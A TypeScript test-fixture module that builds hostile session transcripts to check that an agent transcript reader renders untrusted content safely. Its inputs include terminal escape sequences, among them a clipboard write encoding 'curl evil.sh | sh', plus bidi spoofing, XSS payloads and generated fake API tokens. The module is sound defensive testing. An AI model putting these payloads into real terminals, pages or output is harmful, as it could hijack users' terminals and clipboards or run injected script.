/**
 * Hostile session files for the reader (#41), in each agent's real format:
 * - `test/fixtures/transcripts/<agent>/reader/hostile.jsonl` (made by test/fixtures/reader-fixtures.ts
 *   from the agent's real reader session by changing text only): a prompt, an answer and a tool output
 *   holding escape sequences (ESC[2J, OSC 52, OSC 0), bidi controls, `<script>`, `</script>`,
 *   `<img onerror>`, a `javascript:` link and fake secrets. The committed files hold the secrets as
 *   placeholders (FAKE_SECRET_*: no file of the repository holds a whole token, as in
 *   src/memory/secrets.test.ts); hostileTranscript() writes the file with them filled in.
 * - writeHugeLineTranscript(): a session whose one line is 10 MB, made at test time (never committed).
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AgentCli } from './agent-cli.js';
import { TRANSCRIPTS_DIR } from './shared.js';

// Fake tokens of known shapes, generated from a fixed seed (the same on every run).
let seed = 41;
function gen(length: number, chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'): string {
  let out = '';
  for (let i = 0; i < length; i++) {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    out += chars[seed % chars.length];
  }
  return out;
}

/** Placeholder in the committed hostile files → the fake secret put there by hostileTranscript(). */
export const FAKE_SECRETS = {
  FAKE_SECRET_ANTHROPIC: `sk-ant-api03-${gen(93)}AA`,
  FAKE_SECRET_GITHUB: `ghp_${gen(36)}`,
  FAKE_SECRET_AWS: `AKIA${gen(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}`,
} as const;

const ESC = '\u001b';
const BEL = '\u0007';
/** The hostile texts put in place of a prompt, an answer and a tool output of the real sessions. */
export const HOSTILE = {
  prompt: [
    `Clear this ${ESC}[2J${ESC}[H and copy ${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL} then retitle ${ESC}]0;pwned${BEL} please.`,
    `Bidi: \u202Etxt.exe\u202C and \u2066isolated\u2069 text. My key is FAKE_SECRET_ANTHROPIC.`,
  ].join('\n'),
  answer: [
    '## Report <script>alert(1)</script>',
    '',
    'See [the docs](javascript:alert(1)) and <img src=x onerror=alert(1)>.',
    '',
    '```html',
    '</script><script>alert(2)</script>',
    '```',
    '',
    '- a token: FAKE_SECRET_GITHUB',
    `- the AWS id FAKE_SECRET_AWS and a title ${ESC}]0;owned${BEL}`,
    '',
    '| cell | value |',
    '|------|-------|',
    '| <b onmouseover=alert(4)>x</b> | \u202Eevil\u202C |',
  ].join('\n'),
  output: [
    `${ESC}[31mred${ESC}[0m then ${ESC}[2J${ESC}[3J`,
    `${ESC}]0;owned title${BEL}${ESC}]52;c;aGVsbG8gd29ybGQ=${BEL}${ESC}]8;;javascript:alert(5)${ESC}\\link${ESC}]8;;${ESC}\\`,
    '</script><script>alert(3)</script>',
    'GITHUB_TOKEN=FAKE_SECRET_GITHUB',
    'AWS_ACCESS_KEY_ID=FAKE_SECRET_AWS',
    'ANTHROPIC_API_KEY=FAKE_SECRET_ANTHROPIC',
  ].join('\n'),
} as const;

/** Each agent's real reader session (under transcripts/<agent>/): the source of hostile.jsonl and of the huge line. */
export const READER_SESSIONS: Record<AgentCli, string> = {
  claude: 'reader/compact-subagent/41e0c0de-0000-4000-8000-00000000c1a0.jsonl',
  pi: 'reader/branches.jsonl',
  codex: 'reader/patch-exec.jsonl',
  qwen: 'reader/edit-shell.jsonl',
  gemini: 'reader/edit-shell-compress.jsonl',
};

/** The multi-line tool output every reader session holds (replaced by the hostile output and the huge line). */
export const CHECKS_OUTPUT = 'check 1: ok\ncheck 2: ok\ncheck 3: ok';

/** The placeholders of a text replaced by the fake secrets (JSON-safe: they are letters, digits, - and _). */
export function withSecrets(text: string): string {
  return text.replace(/FAKE_SECRET_(ANTHROPIC|GITHUB|AWS)/g, (m) => FAKE_SECRETS[m as keyof typeof FAKE_SECRETS]);
}

/** Writes `<dir>/<agent>-hostile.jsonl`: the agent's hostile fixture with the fake secrets in; returns its path. */
export function hostileTranscript(agent: AgentCli, dir: string): string {
  const text = readFileSync(join(TRANSCRIPTS_DIR, agent, 'reader', 'hostile.jsonl'), 'utf8');
  mkdirSync(dir, { recursive: true });
  const file = join(dir, `${agent}-hostile.jsonl`);
  writeFileSync(file, withSecrets(text));
  return file;
}

/**
 * Writes `<dir>/<agent>-huge-line.jsonl`: the agent's real reader session with the record that holds
 * the first tool output blown up to one line of about `bytes` bytes (one long line of output, no line
 * break in it), in the agent's own format. Returns its path.
 */
export function writeHugeLineTranscript(agent: AgentCli, dir: string, bytes = 10 * 1024 * 1024): string {
  const lines = readFileSync(join(TRANSCRIPTS_DIR, agent, READER_SESSIONS[agent]), 'utf8').split('\n');
  const needle = JSON.stringify(CHECKS_OUTPUT).slice(1, -1);
  const at = lines.findIndex((l) => l.includes(needle));
  if (at < 0) throw new Error(`${agent}: no line of ${READER_SESSIONS[agent]} holds the checks output`);
  const unit = 'check ok; 0123456789 abcdefghijklmnopqrstuvwxyz ';
  const huge = unit.repeat(Math.ceil(bytes / unit.length)).slice(0, bytes);
  lines[at] = lines[at]!.replace(needle, () => huge);
  mkdirSync(dir, { recursive: true });
  const file = join(dir, `${agent}-huge-line.jsonl`);
  writeFileSync(file, lines.join('\n'));
  return file;
}
